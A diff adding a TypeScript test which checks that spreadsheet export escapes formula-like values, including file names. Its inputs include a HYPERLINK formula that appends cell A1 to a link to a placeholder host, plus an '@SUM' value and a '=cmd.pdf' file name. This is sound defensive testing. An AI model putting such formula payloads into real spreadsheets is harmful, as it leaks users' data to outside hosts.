@@ -111,9 +111,28 @@ describe('one row per line item', () => {
 });
 
 describe('texts that a spreadsheet would run', () => {
+	const fields = fieldsOf({ supplier: 'string', phone: 'string', total: 'number' });
+	const lists = fieldsOf({ lines: [{ text: 'string' }] });
+	const link = '=HYPERLINK("http://a.b/?"&A1,"Click")';
+	const answer = {
+		...{ supplier: link, phone: '+49 30 1234', total: '-12.50' },
+		lines: [{ text: '- Pen' }, { text: '@SUM(A1)' }],
+	};
 	const skipped = [{ fileName: '=x.pdf', reason: 'is empty' }];
+	const of = (output: Output) =>
+		rowsOf(output, [...fields, ...lists], answer, {
+			...{ source: { fileName: '=cmd.pdf' }, more: { skipped } },
+		});
 
 	const about = { _file: "'=cmd.pdf", _skipped: "'=x.pdf is empty" };
+	it.each(['flat', 'listRows'] as const)('are marked in %s, file names too', (output) => {
+		const rows = of(output);
+		const plain = { phone: '+49 30 1234', total: -12.5, _review: '' };
+		expect(rows[0]).toMatchObject({ supplier: `'${link}`, ...plain, ...about });
+		if (output === 'flat') return;
+		expect(rows.map((row) => row['lines_text'])).toEqual(['- Pen', "'@SUM(A1)"]);
+	});
+
 	it('are marked in rows of documents that failed, also where their columns are not known', () => {
 		const unknown = () => {
 			throw new Error('no schema');
